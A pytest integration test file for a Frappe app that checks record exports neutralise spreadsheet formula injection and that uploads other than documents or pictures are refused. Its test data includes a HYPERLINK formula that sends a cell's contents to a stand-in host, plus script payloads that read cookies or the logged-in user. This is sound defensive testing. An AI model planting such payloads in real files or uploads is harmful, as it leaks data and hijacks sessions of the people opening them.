"""Exports and evidence files that cannot hurt the person who opens them (access/spreadsheets.py, uploads.py).

Generated over every path: each export of the app's records (the IID window, a Script Report's export,
Report View's export, Data Export, Data Import's export, Desk's own CSV of a datatable), in CSV and XLSX,
carries texts that start with each of `=`, `+`, `-`, `@`, a tab and a carriage return; each arrives as text
(read back with csv and openpyxl: no formula cell, the text kept behind an apostrophe). Each file type that
is not a document or picture, on each way a file comes to a record of the app (Desk's uploader,
frappe.client.attach_file, a File made through REST, a File pointing at an existing file, an existing file
moved onto the record, an attachment field), is refused: no File row, nothing on disk.
"""

import base64
import csv
import io
import os
from collections import Counter

import frappe
import openpyxl
import pytest

from inovasi_daerah.access import roles
from inovasi_daerah.access.spreadsheets import FORMULA_STARTS
from tests.integration import test_iid
from tests.integration.conftest import SUMMARY
from tests.integration.helpers import complete_proposal, link, make_agency, make_region, make_user, rest

REGION = "Kota Ekspor Uji"
PROVINCE = "Provinsi Ekspor Uji"
OPERATOR = "ekspor-operator@example.com"
MANAGER = "ekspor-manager@example.com"
# A text that starts with each character spreadsheets read as a formula.
TEXTS = {
	"=": '=HYPERLINK("http://bukti.example/?c="&A1,"Lihat bukti")',
	"+": "+62 811-1234-5678 Hubungi",
	"-": "-2+3 Uji Coba",
	"@": "@SUM(1,1) Inovasi",
	"\t": "\t=1+1 Tab",
	"\r": "\r=1+1 Carriage Return",
}
EXPORTED: Counter = Counter()
REFUSED: Counter = Counter()


@pytest.fixture(scope="module")
def world():
	frappe.set_user("Administrator")
	make_region(REGION, parent=PROVINCE)
	agency = make_agency("EKS", region=REGION)
	tokens = {
		"operator": make_user(OPERATOR, [roles.OPERATOR], api=True),
		"manager": make_user(MANAGER, [roles.MANAGER, "System Manager"], api=True),
	}
	link(agency, staff=[OPERATOR])
	names = {}
	for index, (start, text) in enumerate(TEXTS.items()):
		nip = f"19900101202101{index:04d}"
		doc = frappe.get_doc(
			complete_proposal(
				agency=agency,
				title=text,
				team=[{"full_name": text, "nip": nip, "team_role": "Ketua"}],
				# Eligible for the IID window once its mandatory indicators are verified.
				implementation_date="2025-03-01",
				design=test_iid.LONG_DESIGN,
			)
		)
		doc.insert()
		names[start] = doc.name
	frappe.db.commit()
	stored = {start: frappe.db.get_value("Innovation", name, "title") for start, name in names.items()}
	yield frappe._dict(agency=agency, tokens=tokens, names=names, titles=stored)
	frappe.db.rollback()
	for name in names.values():
		frappe.delete_doc("Innovation", name, force=True)
	for file in frappe.get_all("File", filters={"file_name": ("like", "bukti-uji%")}, pluck="name"):
		frappe.delete_doc("File", file, force=True)
	frappe.db.delete("Agency Member", {"parent": agency})
	frappe.delete_doc("Agency", agency, force=True)
	for user in (OPERATOR, MANAGER):
		frappe.delete_doc("User", user, force=True)
	for region in (REGION, PROVINCE):
		frappe.delete_doc("Region", region, force=True)
	frappe.db.commit()
	SUMMARY.append(
		"exports: "
		+ ", ".join(f"{path} {count} cells" for path, count in sorted(EXPORTED.items()))
		+ "; files: "
		+ ", ".join(f"{path} {count} refused" for path, count in sorted(REFUSED.items()))
	)


# ------------------------------------------------------------------ exports


def cells(content: bytes, file_format: str) -> list:
	"""Every cell of an export, with whether the spreadsheet holds it as a formula."""
	if file_format == "CSV":
		text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
		return [(value, False) for row in csv.reader(io.StringIO(text, newline="")) for value in row]
	workbook = openpyxl.load_workbook(io.BytesIO(content))
	return [
		(cell.value, cell.data_type == "f")
		for sheet in workbook.worksheets
		for row in sheet.iter_rows()
		for cell in row
		if cell.value is not None
	]


def assert_neutral(label: str, content: bytes, file_format: str, texts: dict):
	found = cells(content, file_format)
	assert not [value for value, formula in found if formula], f"{label}: a formula cell"
	values = [value for value, _formula in found if isinstance(value, str)]
	assert not [v for v in values if v.startswith(FORMULA_STARTS)], f"{label}: a cell starts like a formula"
	for start, text in texts.items():
		# A line break inside a cell may come back as another one (Data Export reads its own CSV again).
		same = {"'" + text, "'" + text.replace("\r", "\n"), "'" + text.replace("\r", "\r\n")}
		assert any(v in same for v in values), (
			label,
			repr(start),
			[v for v in values if "Return" in v or "Tab" in v],
		)
		EXPORTED[label] += 1


def download(response) -> bytes:
	assert response.status_code == 200, response.get_data(as_text=True)[:500]
	return response.get_data()


EXPORTS = {
	"script report": lambda world, file_format: {
		"path": "/api/method/frappe.desk.query_report.export_query",
		"data": {
			"report_name": "Innovator Credit",
			"file_format_type": "Excel" if file_format == "XLSX" else "CSV",
			"filters": frappe.as_json({"region": REGION}),
			"visible_idx": "[]",
			"include_indentation": 0,
		},
	},
	"report view": lambda world, file_format: {
		"path": "/api/method/frappe.desk.reportview.export_query",
		"data": {
			"doctype": "Innovation",
			"file_format_type": "Excel" if file_format == "XLSX" else "CSV",
			"fields": frappe.as_json(["`tabInnovation`.`name`", "`tabInnovation`.`title`"]),
			"filters": frappe.as_json([["Innovation", "agency", "=", world.agency]]),
			"title": "Innovation",
		},
	},
	"data export": lambda world, file_format: {
		"path": "/api/method/frappe.core.doctype.data_export.exporter.export_data",
		"data": {
			"doctype": "Innovation",
			"select_columns": frappe.as_json({"Innovation": ["name", "title"]}),
			"filters": frappe.as_json({"agency": world.agency}),
			"with_data": "true",
			"all_doctypes": "false",
			"file_type": "Excel" if file_format == "XLSX" else "CSV",
		},
	},
	"data import export": lambda world, file_format: {
		"path": "/api/method/frappe.core.doctype.data_import.data_import.download_template",
		"data": {
			"doctype": "Innovation",
			"export_fields": frappe.as_json({"Innovation": ["name", "title"]}),
			"export_records": "by_filter",
			"export_filters": frappe.as_json({"agency": world.agency}),
			"file_type": "Excel" if file_format == "XLSX" else "CSV",
		},
	},
}


@pytest.mark.parametrize("file_format", ["CSV", "XLSX"])
@pytest.mark.parametrize("path", list(EXPORTS))
def test_frappes_exports_of_the_apps_records_carry_no_formula(world, path, file_format):
	call = EXPORTS[path](world, file_format)
	content = download(rest("POST", call["path"], world.tokens["manager"], data=call["data"]))
	assert_neutral(f"{path} {file_format}", content, file_format, world.titles)


def test_desks_own_csv_of_a_datatable_carries_no_formula(world):
	rows = [["Judul"], *([text] for text in world.titles.values())]
	response = rest(
		"POST",
		"/api/method/frappe.utils.csvutils.send_csv_to_client",
		world.tokens["operator"],
		data={"args": frappe.as_json({"data": rows, "filename": "Inovasi"})},
	)
	assert_neutral("datatable CSV", download(response), "CSV", world.titles)


@pytest.mark.parametrize("file_format", ["CSV", "XLSX"])
def test_the_iid_window_export_carries_no_formula(world, file_format):
	from inovasi_daerah.api.iid import export_iid

	for name in world.names.values():
		test_iid.complete_mandatory(name)
	export_iid(REGION, test_iid.PERIOD, file_format)
	content = frappe.response["filecontent"]
	assert_neutral(
		f"IID window {file_format}",
		content.encode() if isinstance(content, str) else content,
		file_format,
		world.titles,
	)


def test_another_apps_export_is_left_as_frappe_makes_it(world):
	"""The app takes part only in exports of its own records: a core DocType's export is Frappe's own."""
	response = rest(
		"POST",
		"/api/method/frappe.desk.reportview.export_query",
		world.tokens["manager"],
		data={
			"doctype": "ToDo",
			"file_format_type": "CSV",
			"fields": frappe.as_json(["`tabToDo`.`name`", "`tabToDo`.`description`"]),
			"filters": frappe.as_json([["ToDo", "name", "=", "none"]]),
			"title": "ToDo",
		},
	)
	assert response.status_code == 200


# ------------------------------------------------------------------ evidence files

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
REFUSED_FILES = {
	"page.html": b"<html><script>alert(document.cookie)</script></html>",
	"drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
	"program.exe": b"MZ\x90\x00\x03\x00\x00\x00",
	"script.js": b"fetch('/api/method/frappe.auth.get_logged_user')",
	"page-named.pdf": b"<html><body>not a pdf</body></html>",
}


def file_rows(file_name: str) -> list[str]:
	frappe.db.rollback()
	return frappe.get_all("File", filters={"file_name": file_name}, pluck="name")


def on_disk(file_name: str) -> bool:
	return any(
		os.path.exists(frappe.get_site_path(folder, "files", file_name)) for folder in ("private", "public")
	)


def existing_unattached(world, file_name: str, content: bytes) -> str:
	"""A file uploaded to the site attached to nothing (Frappe takes any type there); its address."""
	response = rest(
		"POST",
		"/api/resource/File",
		world.tokens["operator"],
		json={
			"file_name": file_name,
			"content": base64.b64encode(content).decode(),
			"decode": 1,
			"is_private": 1,
		},
	)
	assert response.status_code == 200, response.get_data(as_text=True)[:300]
	return response.json["data"]["file_url"]


def upload(world, how: str, name: str, file_name: str, content: bytes):
	token = world.tokens["operator"]
	encoded = base64.b64encode(content).decode()
	if how == "Desk's uploader":
		return rest(
			"POST",
			"/api/method/upload_file",
			token,
			data={
				"file": (io.BytesIO(content), file_name),
				"doctype": "Innovation",
				"docname": name,
				"is_private": "1",
			},
		)
	if how == "attach_file":
		return rest(
			"POST",
			"/api/method/frappe.client.attach_file",
			token,
			data={
				"filename": file_name,
				"filedata": encoded,
				"doctype": "Innovation",
				"docname": name,
				"decode_base64": 1,
			},
		)
	if how == "File through REST":
		return rest(
			"POST",
			"/api/resource/File",
			token,
			json={
				"file_name": file_name,
				"content": encoded,
				"decode": 1,
				"attached_to_doctype": "Innovation",
				"attached_to_name": name,
			},
		)
	url = existing_unattached(world, f"bukti-uji-lama-{file_name}", content)
	if how == "link to an existing file":
		return rest(
			"POST",
			"/api/resource/File",
			token,
			json={"file_url": url, "attached_to_doctype": "Innovation", "attached_to_name": name},
		)
	if how == "existing file moved onto the record":
		existing = frappe.db.get_value("File", {"file_url": url})
		return rest(
			"PUT",
			f"/api/resource/File/{existing}",
			token,
			json={"attached_to_doctype": "Innovation", "attached_to_name": name},
		)
	assert how == "attachment field"
	return rest(
		"PUT",
		f"/api/resource/Innovation/{name}",
		token,
		json={"photos": [{"photo": url, "caption": "Bukti"}]},
	)


UPLOAD_PATHS = [
	"Desk's uploader",
	"attach_file",
	"File through REST",
	"link to an existing file",
	"existing file moved onto the record",
	"attachment field",
]


@pytest.mark.parametrize("how", UPLOAD_PATHS)
@pytest.mark.parametrize("kind", list(REFUSED_FILES))
def test_a_file_that_is_not_a_document_or_picture_is_refused_on_every_path(world, how, kind):
	name = world.names["="]
	file_name = f"bukti-uji-{kind}"
	response = upload(world, how, name, file_name, REFUSED_FILES[kind])
	assert response.status_code == 417, response.get_data(as_text=True)[:300]
	assert "not a document or picture" in response.get_data(as_text=True)
	assert not file_rows(file_name), "no File row"
	assert not on_disk(file_name), "nothing on disk"
	attached = frappe.get_all(
		"File", filters={"attached_to_doctype": "Innovation", "attached_to_name": name}, pluck="file_name"
	)
	assert not [f for f in attached if kind in (f or "")], attached
	assert not frappe.get_all("Innovation Photo", filters={"parent": name}), "the record is unchanged"
	REFUSED[how] += 1


@pytest.mark.parametrize("how", UPLOAD_PATHS)
def test_a_real_pdf_is_taken_on_every_path(world, how):
	name = world.names["+"]
	response = upload(world, how, name, "bukti-uji-laporan.pdf", PDF)
	assert response.status_code in (200, 202), response.get_data(as_text=True)[:300]
	frappe.db.rollback()
	attached = frappe.get_all(
		"File",
		filters={"attached_to_doctype": "Innovation", "attached_to_name": name},
		fields=["name", "file_name", "is_private"],
	)
	assert any("laporan.pdf" in (f.file_name or "") for f in attached) or how == "attachment field"
	assert all(f.is_private for f in attached)
	for file in frappe.get_all(
		"File", filters={"file_name": ("like", "bukti-uji%laporan.pdf")}, pluck="name"
	):
		frappe.delete_doc("File", file, force=True)
	frappe.db.set_value("Innovation", name, "modified", frappe.utils.now())
	frappe.db.delete("Innovation Photo", {"parent": name})
	frappe.db.commit()


def test_a_file_larger_than_the_settings_allow_is_refused(world):
	frappe.db.set_single_value("Inovasi Daerah Settings", "evidence_max_mb", 1)
	frappe.db.commit()
	try:
		big = PDF + b"0" * (1024 * 1024 + 1)
		response = upload(world, "File through REST", world.names["@"], "bukti-uji-besar.pdf", big)
		assert response.status_code == 417 and "larger than 1 MB" in response.get_data(as_text=True)
		assert not file_rows("bukti-uji-besar.pdf") and not on_disk("bukti-uji-besar.pdf")
	finally:
		frappe.db.set_single_value("Inovasi Daerah Settings", "evidence_max_mb", 10)
		frappe.db.commit()
